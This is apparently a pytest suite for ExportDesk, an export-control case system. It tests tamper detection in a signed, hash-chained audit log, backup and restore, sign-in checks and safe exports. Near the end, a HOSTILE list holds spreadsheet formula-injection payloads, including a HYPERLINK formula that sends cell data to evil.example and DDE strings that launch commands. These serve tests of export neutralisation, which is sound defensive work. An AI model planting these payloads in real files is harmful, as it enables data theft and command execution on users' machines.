"""Audit trail: every action logged, tampering detected; migrations; export; db CLI."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import sqlite3
from pathlib import Path

import pytest

from exportdesk.cli import main
from exportdesk.store import Store
from exportdesk.store.db import LATEST, open_database
from exportdesk.store.export import export_cases, neutralise
from tests.store_fixtures import (
    PASSWORD,
    Campus,
    controlled_answers,
    make_campus,
    ready_for_decision,
)


@pytest.fixture
def signed_in(monkeypatch):
    """Commands sign in with the fixtures' password, as a script would."""
    monkeypatch.setenv("EXPORTDESK_PASSWORD", PASSWORD)


@pytest.fixture
def campus(tmp_path: Path) -> Campus:
    c = make_campus(tmp_path / "exportdesk.db", "small")
    s = c.store
    case = s.create_case(c.prof, answers=controlled_answers())
    s.submit(c.prof, case["id"])
    s.take_for_review(c.office, case["id"])
    ready_for_decision(s, c.office, case["id"])
    s.record_decision(c.office, case["id"], "no_licence_needed", "公知の技術のみ & R&D <test>")
    s.approve(c.office, case["id"])
    s.approve(c.chief, case["id"])
    return c


def test_every_kind_of_action_is_logged(campus: Campus):
    actions = {r[0] for r in campus.store.db.execute("SELECT action FROM audit_log")}
    assert {"create", "add_proxy", "status", "decision", "approve"} <= actions
    rows = campus.store.db.execute("SELECT at, user_login, action FROM audit_log").fetchall()
    assert all(r[0].endswith("Z") for r in rows)  # UTC
    status_moves = [
        json.loads(r[0])["status"]
        for r in campus.store.db.execute(
            "SELECT after_json FROM audit_log WHERE entity = 'case' AND action IN ('status', 'approve')"
        )
    ]
    assert status_moves == ["submitted", "under_review", "under_review", "approved"]
    assert campus.store.verify_audit().ok


def _tamper(path: Path, sql: str, params=()) -> None:
    conn = sqlite3.connect(path)
    conn.execute(sql, params)
    conn.commit()
    conn.close()


def _verify(path: Path) -> list[str]:
    store = Store(path)
    result = store.verify_audit()
    store.close()
    return result.problems


def test_edit_is_detected(campus: Campus):
    path = campus.store.path
    campus.store.close()
    _tamper(path, "UPDATE audit_log SET user_login = 'someone-else' WHERE seq = 5")
    problems = _verify(path)
    assert any("entry 5" in p and "edited" in p for p in problems)


def test_delete_is_detected(campus: Campus):
    path = campus.store.path
    campus.store.close()
    _tamper(path, "DELETE FROM audit_log WHERE seq = 7")
    problems = _verify(path)
    assert any("entry 7 is missing" in p for p in problems)


def test_reorder_is_detected(campus: Campus):
    path = campus.store.path
    campus.store.close()
    conn = sqlite3.connect(path)
    a = conn.execute("SELECT * FROM audit_log WHERE seq = 3").fetchone()
    b = conn.execute("SELECT * FROM audit_log WHERE seq = 4").fetchone()
    conn.execute("DELETE FROM audit_log WHERE seq IN (3, 4)")
    # Swap the two entries' positions, keeping each entry's own fields and hash.
    conn.execute("INSERT INTO audit_log VALUES (4" + ",?" * (len(a) - 1) + ")", a[1:])
    conn.execute("INSERT INTO audit_log VALUES (3" + ",?" * (len(b) - 1) + ")", b[1:])
    conn.commit()
    conn.close()
    problems = _verify(path)
    assert any("entry 3" in p for p in problems) and any("entry 4" in p for p in problems)


def test_truncating_the_end_is_detected(campus: Campus):
    path = campus.store.path
    last = campus.store.db.execute("SELECT max(seq) FROM audit_log").fetchone()[0]
    campus.store.close()
    _tamper(path, "DELETE FROM audit_log WHERE seq = ?", [last])
    assert any("recorded head" in p for p in _verify(path))


def test_db_verify_cli(campus: Campus, capsys):
    path = campus.store.path
    campus.store.close()
    assert main(["db", "--db", str(path), "verify"]) == 0
    assert "chain intact" in capsys.readouterr().out
    _tamper(path, "UPDATE audit_log SET after_json = '{}' WHERE seq = 2")
    assert main(["db", "--db", str(path), "verify"]) == 1
    assert "TAMPERED" in capsys.readouterr().out


def test_backup_and_restore(campus: Campus, tmp_path: Path, capsys, signed_in):
    path = campus.store.path
    campus.store.close()
    backup = tmp_path / "copy.db"
    assert main(["db", "--db", str(path), "backup", str(backup), "--user", "admin"]) == 0
    assert backup.stat().st_mode & 0o777 == 0o600
    _tamper(path, "DELETE FROM approvals")
    assert main(["db", "--db", str(path), "restore", str(backup), "--user", "admin"]) == 0
    store = Store(path)
    assert store.db.execute("SELECT count(*) FROM approvals").fetchone()[0] == 2
    assert store.verify_audit().ok
    last = store.db.execute(
        "SELECT action, user_login, after_json FROM audit_log ORDER BY seq DESC LIMIT 1"
    ).fetchone()
    assert last[:2] == ("restore", "admin")  # the restore itself is on record
    assert json.loads(last[2])["sha256"]
    safety = path.with_name(path.name + ".before-restore.bak")
    assert safety.stat().st_mode & 0o777 == 0o600
    store.close()
    not_db = tmp_path / "junk.db"
    not_db.write_bytes(b"this is not sqlite" * 100)
    assert main(["db", "--db", str(path), "restore", str(not_db), "--user", "admin"]) == 1
    assert "Not an ExportDesk database" in capsys.readouterr().err


def test_restore_refuses_a_copy_that_does_not_verify(
    campus: Campus, tmp_path: Path, capsys, signed_in
):
    path = campus.store.path
    campus.store.close()
    copy = tmp_path / "copy.db"
    assert main(["db", "--db", str(path), "backup", str(copy), "--user", "admin"]) == 0
    # A copy whose log was emptied, with its records still there (the old code took it).
    _tamper(copy, "DELETE FROM audit_log")
    _tamper(copy, "DELETE FROM meta WHERE key LIKE 'audit%'")
    capsys.readouterr()
    assert main(["db", "--db", str(path), "restore", str(copy), "--user", "admin"]) == 1
    out = capsys.readouterr()
    assert "does not verify" in out.err and "not in the audit trail" in out.out
    refused = Store(path)
    assert (
        refused.db.execute("SELECT count(*) FROM audit_log WHERE action = 'restore'").fetchone()[0]
        == 0
    )
    assert refused.verify_audit().ok
    refused.close()
    assert main(["db", "--db", str(path), "restore", str(copy), "--user", "admin", "--force"]) == 0
    store = Store(path)
    row = store.db.execute(
        "SELECT action, after_json FROM audit_log ORDER BY seq DESC LIMIT 1"
    ).fetchone()
    assert row[0] == "restore" and json.loads(row[1])["forced"] is True
    store.close()


def test_restore_of_an_older_copy_warns_about_heads_given_out(
    campus: Campus, tmp_path: Path, capsys, signed_in
):
    path = campus.store.path
    old = tmp_path / "old.db"
    campus.store.close()
    assert main(["db", "--db", str(path), "backup", str(old), "--user", "admin"]) == 0
    export = tmp_path / "given-out.csv"
    assert (
        main(
            ["export", "--db", str(path), "--format", "csv", "-o", str(export), "--user", "office1"]
        )
        == 0
    )
    capsys.readouterr()
    assert main(["db", "--db", str(path), "restore", str(old), "--user", "admin"]) == 0
    assert "files already given out carry entry" in capsys.readouterr().out
    # The export now contradicts the restored history: verify --against says so.
    assert main(["db", "--db", str(path), "verify", "--against", str(export)]) == 1
    assert "restored from an older copy" in capsys.readouterr().out


def test_sign_in_is_required_and_checked(campus: Campus, tmp_path: Path, capsys, monkeypatch):
    path = str(campus.store.path)
    out = str(tmp_path / "out.json")
    monkeypatch.delenv("EXPORTDESK_PASSWORD", raising=False)
    monkeypatch.setattr("sys.stdin", io.StringIO())  # not a terminal: no prompt
    assert main(["export", "--db", path, "--format", "json", "-o", out]) == 1
    assert "--user" in capsys.readouterr().err
    assert main(["export", "--db", path, "--format", "json", "-o", out, "--user", "office1"]) == 1
    assert "EXPORTDESK_PASSWORD" in capsys.readouterr().err
    monkeypatch.setenv("EXPORTDESK_PASSWORD", "not the password")
    assert main(["export", "--db", path, "--format", "json", "-o", out, "--user", "office1"]) == 1
    assert "password is wrong" in capsys.readouterr().err
    assert not Path(out).exists()
    # On a terminal the password is asked for, not echoed.
    monkeypatch.delenv("EXPORTDESK_PASSWORD")
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr("getpass.getpass", lambda prompt: PASSWORD)
    assert main(["export", "--db", path, "--format", "json", "-o", out, "--user", "office1"]) == 0


def test_failed_sign_in_takes_as_long_for_unknown_logins(tmp_path: Path):
    """Timing must not tell which logins exist: both paths run one argon2 check."""
    from exportdesk.store import users
    from exportdesk.store.errors import StoreError

    calls: list[str] = []
    real = users._hasher

    class Counting:
        def hash(self, password: str) -> str:
            return real.hash(password)

        def verify(self, stored: str, password: str) -> bool:
            calls.append(stored[:9])
            return real.verify(stored, password)

    c = make_campus(tmp_path / "t.db")
    users._hasher = Counting()  # type: ignore[assignment]
    try:
        for login in ("chief", "nobody-here", "export-control-office"):
            calls.clear()
            with pytest.raises(StoreError) as err:
                c.store.authenticate(login, "wrong password 123")
            assert err.value.code == "login_failed"
            assert len(calls) == 1 and calls[0].startswith("$argon2"), login
    finally:
        users._hasher = real


def test_a_mistyped_db_is_not_created(tmp_path: Path, capsys, signed_in):
    missing = tmp_path / "typo" / "exportdesk.db"
    for argv in (
        ["export", "--db", str(missing), "-o", str(tmp_path / "x.csv"), "--user", "office1"],
        ["print", "--all", "--db", str(missing), "-o", str(tmp_path / "pdfs"), "--user", "x"],
        ["db", "--db", str(missing), "verify"],
        ["screen", "--db", str(missing), "Example"],
        ["eul", "--db", str(missing), "versions"],
    ):
        assert main(argv) == 1, argv
        assert "No database at" in capsys.readouterr().err
        assert not missing.exists() and not missing.parent.exists()


def test_migration_from_first_schema(tmp_path: Path):
    path = tmp_path / "old.db"
    db = open_database(path, upto=1)
    assert db.execute("PRAGMA user_version").fetchone()[0] == 1
    db.execute(
        "INSERT INTO institution (id, name_ja, name_en, icp_format, office_name_ja, office_name_en,"
        " created_at) VALUES (1, '旧大学', 'Old University', 'small', '室', 'Office', '2025-01-01Z')"
    )
    db.execute(
        "INSERT INTO users (login, name, password_hash, created_at) VALUES ('old', 'Old', 'x', '2025')"
    )
    db.execute(
        "INSERT INTO cases (ref, applicant_id, filed_by_id, status, forms_version, created_at,"
        " updated_at, title, counterpart_name) VALUES ('2025-000001', 1, 1, 'approved', '2025.1',"
        " '2025-01-01', '2025-01-02', '旧案件', 'Legacy Partner Institute')"
    )
    db.execute(
        "INSERT INTO people (family_name, nationality, created_at, updated_at) VALUES ('Lee', 'KR', 'x', 'x')"
    )
    db.conn.commit()
    db.close()

    store = Store(path)
    assert store.db.execute("PRAGMA user_version").fetchone()[0] == LATEST
    backups = list(tmp_path.glob("old.db.v1.*.bak"))
    assert len(backups) == 1
    assert sqlite3.connect(backups[0]).execute("PRAGMA user_version").fetchone()[0] == 1
    # Old rows are searchable through the new index and the new columns have defaults.
    reader = dataclasses.replace(store.get_user(1), roles=frozenset({("office", None)}))
    rows = store.list_cases(reader, search="Legacy Partner")
    assert [r["ref"] for r in rows] == ["2025-000001"]
    assert store.person(1)["needs_recheck"] == 0
    # The records found at migration are sealed as they were; a later direct edit shows.
    baseline = store.db.execute("SELECT action FROM audit_log ORDER BY seq").fetchall()
    assert baseline == [("seal_baseline",)]
    assert store.verify_audit().ok, store.verify_audit().problems
    store.close()
    _tamper(path, "UPDATE cases SET status = 'draft' WHERE id = 1")
    assert _verify(path) == [
        "cases row 1: changed outside ExportDesk (differs from what audit entry 1 recorded)"
    ]


def test_newer_schema_is_refused(tmp_path: Path):
    path = tmp_path / "future.db"
    conn = sqlite3.connect(path)
    conn.execute(f"PRAGMA user_version = {LATEST + 1}")
    conn.close()
    from exportdesk.store.errors import StoreError

    with pytest.raises(StoreError) as err:
        Store(path)
    assert err.value.code == "schema_newer"


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_export_formats(campus: Campus, tmp_path: Path, fmt: str):
    target = tmp_path / f"cases.{fmt}"
    assert export_cases(campus.store, target, fmt, campus.office) == 1
    if fmt == "xlsx":
        from openpyxl import load_workbook

        ws = load_workbook(target).active
        header = [c.value for c in ws[1]]
        row = dict(zip(header, [c.value for c in ws[2]], strict=True))
        assert row["判断理由"] == "公知の技術のみ & R&D <test>"
        assert "office:approve" in row["承認"]
    elif fmt == "csv":
        with target.open(encoding="utf-8-sig") as fh:
            rows = list(csv.DictReader(fh))
        assert rows[0]["状態"] == "承認（許可不要）"
    else:
        data = json.loads(target.read_text(encoding="utf-8"))["cases"]
        assert data[0]["decision"] == "no_licence_needed"
        assert data[0]["counterpart"] == "Technische Universität Beispiel"
    last = campus.store.db.execute(
        "SELECT action FROM audit_log ORDER BY seq DESC LIMIT 1"
    ).fetchone()[0]
    assert last == "export"


def test_export_cli(campus: Campus, tmp_path: Path, capsys, signed_in):
    path = campus.store.path
    target = tmp_path / "out.json"
    assert (
        main(["export", "--db", str(path), "--format", "json", "-o", str(target), "--user", "prof"])
        == 0
    )
    assert "1 cases written" in capsys.readouterr().out
    data = json.loads(target.read_text(encoding="utf-8"))
    assert data["audit_head"]["seq"] > 0 and data["audit_head"]["signature"]
    campus.store.close()
    assert main(["db", "--db", str(path), "verify", "--against", str(target)]) == 0
    assert "matches" in capsys.readouterr().out


# --- tampering with the records, not only with the log ------------------------------------

EUL_CSV = (
    "no,country_ja,country_en,name_en,name_original,aliases,concerns,conventional_weapons\n"
    "1,中国,China,Example Aerospace Institute,例示航空研究所,EAI,M,CW\n"
    "2,イラン,Iran,Sample Missile Industries,,SMI,M,\n"
)


@pytest.fixture
def listed(campus: Campus, tmp_path: Path) -> Campus:
    """The campus with an End User List and a screening threshold recorded."""
    path = tmp_path / "eul.csv"
    path.write_text(EUL_CSV, encoding="utf-8")
    campus.store.eul.import_file(campus.office, path)
    campus.store.eul.set_threshold(campus.office, 90)
    assert campus.store.verify_audit().ok, campus.store.verify_audit().problems
    return campus


def _problems_after(c: Campus, sql: str, params=()) -> list[str]:
    path = c.store.path
    c.store.close()
    _tamper(path, sql, params)
    return _verify(path)


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        (
            "UPDATE cases SET status = 'approved', decision = 'x' WHERE id = 1",
            "cases row 1: changed",
        ),
        ("UPDATE cases SET outcome = 'no_procedure' WHERE id = 1", "cases row 1: changed"),
        ("UPDATE approvals SET user_id = 1 WHERE id = 2", "approvals row 2: changed"),
        ("DELETE FROM approvals WHERE id = 1", "approvals row 1: deleted"),
        (
            "INSERT INTO approvals (case_id, round, step, user_id, role, action, at)"
            " VALUES (1, 1, 'chief', 2, 'chief_manager', 'approve', '2026')",
            "approvals row 3: not in the audit trail",
        ),
        ("INSERT INTO user_roles VALUES (8, 'admin', NULL)", "user_roles row 8/admin/: not in"),
        ("DELETE FROM user_roles WHERE user_id = 4", "user_roles row 4/chief_manager/: deleted"),
        ("UPDATE users SET password_hash = 'known' WHERE login = 'chief'", "users row 4: changed"),
        ("DELETE FROM proxies", "proxies row 9/7: deleted"),
        ("UPDATE eul_entities SET name_en = 'Harmless Ltd' WHERE no = 1", "eul_entities row 1/1"),
        ("DELETE FROM eul_entities WHERE no = 2", "eul_entities row 1/2: deleted"),
        ("UPDATE meta SET value = '100' WHERE key = 'screening_threshold'", "meta row screening"),
        ("UPDATE institution SET retention_years = 1", "institution row 1: changed"),
    ],
)
def test_direct_edits_of_records_are_named(listed: Campus, sql: str, expected: str):
    problems = _problems_after(listed, sql)
    assert any(expected in p for p in problems), problems


def test_deleting_the_whole_log_and_head_is_detected(campus: Campus):
    problems = _problems_after(campus, "DELETE FROM audit_log")
    path = campus.store.path
    _tamper(path, "DELETE FROM meta WHERE key LIKE 'audit%'")
    problems = _verify(path)
    assert any("cases row 1: not in the audit trail" in p for p in problems)
    assert any("users row" in p and "not in the audit trail" in p for p in problems)


def test_a_recomputed_chain_needs_the_installation_key(campus: Campus, tmp_path: Path):
    """Edit a case, then rebuild every seal, hash and the head as a forger would, signing
    with a key of their own: the head's signature gives it away."""
    from exportdesk.store import audit, keys, seals
    from exportdesk.store.db import connect

    path = campus.store.path
    campus.store.close()
    _tamper(path, "UPDATE cases SET status = 'approved', decision = 'forged' WHERE id = 1")
    db = connect(path, create=False)
    rows = db.execute("SELECT * FROM audit_log ORDER BY seq").fetchall()
    cols = [c[1] for c in db.execute("PRAGMA table_info(audit_log)")]
    forged_case = dict(seals.whole_database(db)["cases"])
    prev = audit.GENESIS
    db.execute("BEGIN")
    for values in rows:
        row = dict(zip(cols, values, strict=True))
        if row["state_json"] and '"cases"' in row["state_json"]:
            state = json.loads(row["state_json"])
            state["cases"] = {k: forged_case.get(k, v) for k, v in state["cases"].items()}
            row["state_json"] = audit.canonical(state)
        row["prev_hash"] = prev
        row["hash"] = prev = audit.entry_hash(prev, row)
        db.execute(
            "UPDATE audit_log SET state_json = ?, prev_hash = ?, hash = ? WHERE seq = ?",
            [row["state_json"], row["prev_hash"], row["hash"], row["seq"]],
        )
    db.execute(
        "UPDATE meta SET value = ? WHERE key = 'audit_head'", [json.dumps([row["seq"], prev])]
    )
    audit.sign_head(db, keys.load_or_create_key(tmp_path / "forger"))
    db.execute("COMMIT")
    db.close()
    problems = _verify(path)
    assert problems == [
        "the head is signed by another key"
        f" ({keys.fingerprint(keys.public_key_text(keys.load_key(tmp_path / 'forger')))}),"
        " not this installation's"
    ]
    # Without any signature at all it is no better.
    _tamper(path, "DELETE FROM meta WHERE key = 'audit_head_signed'")
    assert any("carries no signature" in p for p in _verify(path))


def test_attachment_content_swapped_is_detected(campus: Campus):
    s = campus.store
    case = s.create_case(campus.prof)
    info = s.add_attachment(campus.prof, case["id"], "sheet.pdf", b"%PDF original")
    problems = _problems_after(
        campus, "UPDATE attachments SET content = ? WHERE id = ?", [b"%PDF swapped", info["id"]]
    )
    assert any(f"attachments row {info['id']}: content does not match" in p for p in problems)


def test_legitimate_work_of_every_kind_verifies(listed: Campus):
    """Every store operation seals what it writes, including bookkeeping such as a
    re-screen that finds the same hits and a failed sign-in."""
    s = listed.store
    from exportdesk.store.errors import StoreError

    with pytest.raises(StoreError):
        s.authenticate("chief", "wrong password!")
    s.set_language(listed.prof, "en")
    s.set_roles(listed.admin, listed.prof.id, [("applicant", None)])
    pid = s.add_person(listed.prof, family_name="Lee", nationality="KR")
    s.update_person(listed.prof, pid, given_name="Min")
    s.declare(listed.prof, pid, declared_on="2026-11-01", categories=[], pledge_signed=True)
    s.eul.rescreen(listed.office, s.eul.current_version()["id"])
    s.eul.set_threshold(listed.office, 85)  # an upsert over the existing setting
    result = s.verify_audit()
    assert result.ok, result.problems
    assert result.signed_by


# --- exports ------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_neutralises_formulas(campus: Campus, tmp_path: Path, fmt: str):
    s = campus.store
    # The store refuses control characters in names; tab and CR still reach other cells
    # (and `screen --csv`), so neutralise() is checked for them directly.
    assert [neutralise(v) for v in ("\t=1+1", "\r=1+1", "plain", 5)] == [
        "'\t=1+1",
        "'\r=1+1",
        "plain",
        5,
    ]
    accepted = [n for n in HOSTILE if n[0] not in "\t\r"]
    for name in accepted:
        case = s.create_case(campus.prof, answers=controlled_answers() | {"counterpart_name": name})
        s.submit(campus.prof, case["id"])
    target = tmp_path / f"out.{fmt}"
    export_cases(s, target, fmt, campus.office)
    if fmt == "xlsx":
        from openpyxl import load_workbook

        ws = load_workbook(target).active
        col = [c.value for c in ws[1]].index("相手方")
        cells = [row[col] for row in ws.iter_rows(min_row=3, values_only=True)]
        kinds = {c.data_type for row in ws.iter_rows() for c in row}
        assert "f" not in kinds  # no formula cell anywhere
    else:
        with target.open(encoding="utf-8-sig", newline="") as fh:
            rows = [r for r in csv.DictReader(fh) if r["案件番号"].startswith("20")]
        cells = [r["相手方"] for r in rows[1:]]
    assert cells == ["'" + name for name in accepted]


def test_exports_and_backups_are_owner_only(campus: Campus, tmp_path: Path):
    import os

    os.umask(0o022)
    for fmt in ("xlsx", "csv", "json"):
        target = tmp_path / f"cases.{fmt}"
        export_cases(campus.store, target, fmt, campus.office)
        assert target.stat().st_mode & 0o777 == 0o600, fmt
    from exportdesk.store.maintenance import backup_to

    backup_to(campus.store.db, tmp_path / "copy.db")
    assert (tmp_path / "copy.db").stat().st_mode & 0o777 == 0o600
    assert not list(tmp_path.glob(".*.part"))


def test_export_shows_only_what_the_user_may_see(campus: Campus, tmp_path: Path):
    s = campus.store
    s.create_case(campus.prof_sci, answers={"title": "理学部の下書き"})
    mine = s.create_case(campus.prof, answers={"title": "自分の下書き"})
    sci = s.create_case(campus.prof_sci, answers=controlled_answers() | {"title": "理学部"})
    s.submit(campus.prof_sci, sci["id"])

    def titles(user) -> set[str]:
        target = tmp_path / f"{user.login}.json"
        export_cases(s, target, "json", user)
        return {r["title"] for r in json.loads(target.read_text(encoding="utf-8"))["cases"]}

    first = s.get_case(campus.office, 1)["title"]
    assert titles(campus.office) == {first, "理学部"}  # no one else's draft
    assert titles(campus.prof) == {first, "自分の下書き"}
    assert titles(campus.manager_sci) == {"理学部"}
    assert mine["id"]


@pytest.fixture
def small_disk(tmp_path: Path):
    """A real, small file system (tmpfs of 4 MiB); skipped where mounting is not allowed."""
    import subprocess

    where = tmp_path / "disk"
    where.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(where)], capture_output=True
    )
    if done.returncode != 0:
        pytest.skip("cannot mount a small file system here (needs root)")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], check=False)


def _fill(where: Path) -> None:
    with (where / "filler").open("wb") as fh:
        try:
            while True:
                fh.write(b"\0" * 65536)
                fh.flush()
        except OSError:
            pass


def test_export_to_a_full_disk_leaves_nothing(campus: Campus, small_disk: Path):
    from exportdesk.store.errors import StoreError

    _fill(small_disk)
    for fmt in ("csv", "xlsx", "json"):
        with pytest.raises(StoreError) as err:
            export_cases(campus.store, small_disk / f"x.{fmt}", fmt, campus.office)
        assert err.value.code == "disk_full" and "ディスク" in err.value.ja
    assert sorted(p.name for p in small_disk.iterdir()) == ["filler"]


def test_read_only_database_gives_a_clear_message(
    campus: Campus, small_disk: Path, capsys, signed_in
):
    import subprocess

    path = small_disk / "ro.db"
    assert main(["db", "--db", str(campus.store.path), "backup", str(path), "--user", "admin"]) == 0
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    capsys.readouterr()
    code = main(["eul", "--db", str(path), "threshold", "90", "--user", "office1"])
    message = capsys.readouterr().err
    assert code == 1 and "read-only" in message and "Traceback" not in message
    assert main(["db", "--db", str(path), "verify"]) == 0  # reading still works


def test_full_disk_while_writing_a_record_changes_nothing(tmp_path: Path, small_disk: Path):
    from exportdesk.store.errors import StoreError

    c = make_campus(small_disk / "full.db")
    s = c.store
    _fill(small_disk)
    before = s.db.execute("SELECT count(*) FROM cases").fetchone()[0]
    with pytest.raises(StoreError) as err:
        for _ in range(200):
            s.create_case(c.prof, answers=controlled_answers() | {"title": "x" * 190})
    assert err.value.code == "disk_full"
    (small_disk / "filler").unlink()
    assert s.verify_audit().ok
    assert s.db.execute("SELECT count(*) FROM cases WHERE ref LIKE 'tmp-%'").fetchone()[0] == 0
    assert s.db.execute("SELECT count(*) FROM cases").fetchone()[0] >= before


def os_access_ignores_modes() -> bool:
    import os

    return os.geteuid() == 0


def test_print_all_shows_only_what_the_user_may_see(campus: Campus, tmp_path: Path, signed_in):
    s = campus.store
    draft = s.create_case(campus.prof_sci, answers={"title": "理学部の下書き"})
    sci = s.create_case(campus.prof_sci, answers=controlled_answers())
    s.submit(campus.prof_sci, sci["id"])
    first = s.get_case(campus.office, 1)["ref"]
    path = str(s.path)
    s.close()

    def printed(login: str) -> set[str]:
        out = tmp_path / login
        assert main(["print", "--all", "--db", path, "-o", str(out), "--user", login]) == 0
        assert all(p.stat().st_mode & 0o777 == 0o600 for p in out.glob("*.pdf"))
        return {p.stem for p in out.glob("*.pdf")}

    assert printed("office1") == {first, sci["ref"]}  # not the draft
    assert printed("prof") == {first}
    assert printed("prof-sci") == {draft["ref"], sci["ref"]}
    assert printed("mgr-sci") == {sci["ref"]}
    from exportdesk.store.maintenance import heads_in_file

    heads = heads_in_file(tmp_path / "office1" / f"{first}.pdf")
    assert len(heads) == 1 and heads[0]["signature"]
    assert (
        main(
            [
                "db",
                "--db",
                path,
                "verify",
                "--against",
                *map(str, (tmp_path / "office1").glob("*.pdf")),
            ]
        )
        == 0
    )


def test_screen_csv_neutralises_formulas(campus: Campus, tmp_path: Path, capsys, signed_in):
    path = tmp_path / "eul.csv"
    path.write_text(EUL_CSV, encoding="utf-8")
    assert (
        main(["eul", "--db", str(campus.store.path), "import", str(path), "--user", "office1"]) == 0
    )
    names = tmp_path / "names.csv"
    with names.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["name", "country"], *[[n, "CN"] for n in HOSTILE]])
    capsys.readouterr()
    assert main(["screen", "--db", str(campus.store.path), "--csv", str(names)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["name"] for r in rows] == ["'" + n for n in HOSTILE]
